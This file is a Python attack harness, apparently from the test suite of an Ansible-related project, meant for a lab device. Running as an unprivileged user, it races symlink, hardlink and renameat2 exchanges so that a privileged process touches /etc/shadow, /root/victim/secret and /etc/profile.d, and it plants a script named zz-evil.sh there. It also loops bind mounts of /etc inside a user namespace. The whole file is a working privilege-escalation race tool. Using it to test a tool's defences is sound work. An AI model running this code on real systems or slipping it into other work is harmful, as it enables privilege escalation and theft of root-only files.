# Copyright: (c) 2026, fleet.ota contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Runs on a lab device as a user without rights: ``python3 hostile.py loop|once FOLDER...``.

In each of the user's folders it exchanges (renameat2(2)) a directory for a link to root's directories, a file for a
link to a file that only root reads, and its own file and directory for those that root keeps beside them. Where user
namespaces are allowed it also mounts root's directories there, in a namespace of its own.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import os
import subprocess
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
EXCHANGE, HERE = 2, -100
TARGETS = ("/etc/profile.d", "/root/victim", "/etc")
MOUNT = "while sleep 0.05; do mount --bind /etc {0}/z; mount --bind {0}/z {0}/mine; umount -l {0}/mine {0}/z; done"


def exchange(one: str, other: str) -> None:
    LIBC.renameat2(HERE, os.fsencode(one), HERE, os.fsencode(other), EXCHANGE)


def arm(folder: str) -> None:
    """Make what is exchanged; what went away meanwhile is made again."""
    links = {"to%d" % number: target for number, target in enumerate(TARGETS)}
    for name, target in {**links, "shadow": "/etc/shadow", "secret": "/root/victim/secret"}.items():
        with contextlib.suppress(OSError):
            os.symlink(target, os.path.join(folder, ".." + name))
    for name in ("z", "z/deep", "mine"):
        with contextlib.suppress(OSError):
            os.mkdir(os.path.join(folder, name))
    for name in ("z/zz-evil.sh", "z/shadow", "z/secret", "z/deep/file", "mine/key", "a"):
        with contextlib.suppress(OSError), open(os.path.join(folder, name), "x") as handle:
            handle.write("# written by the user\n")
    with contextlib.suppress(OSError):
        os.symlink("/root/victim", os.path.join(folder, "z/..deeper"))
    for target in ("/etc/shadow", "/root/victim/secret", os.path.join(folder, "b")):
        with contextlib.suppress(OSError):
            os.link(target, os.path.join(folder, "hard"))


def step(folder: str, number: int) -> None:
    """One exchange of each kind."""
    pairs = [("z", "..to%d" % (number % len(TARGETS))), ("a", "..shadow"), ("z/shadow", "..secret")]
    pairs += [("a", "b"), ("mine", "roots"), ("z/deep", "z/..deeper"), ("mine/key", "..secret")]
    for one, other in pairs:
        exchange(os.path.join(folder, one), os.path.join(folder, other))


def main() -> None:
    how, folders = sys.argv[1], sys.argv[2:]
    for folder in folders:
        arm(folder)
    if how == "once":
        for folder in folders:
            step(folder, 0)
        return
    argv = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", MOUNT.format(folders[0])]
    subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("ready", flush=True)
    for number in itertools.count():
        for folder in folders:
            step(folder, number)
            if not number % 50:
                arm(folder)


if __name__ == "__main__":  # Ansible imports every module of a folder in which it looks for callbacks
    main()
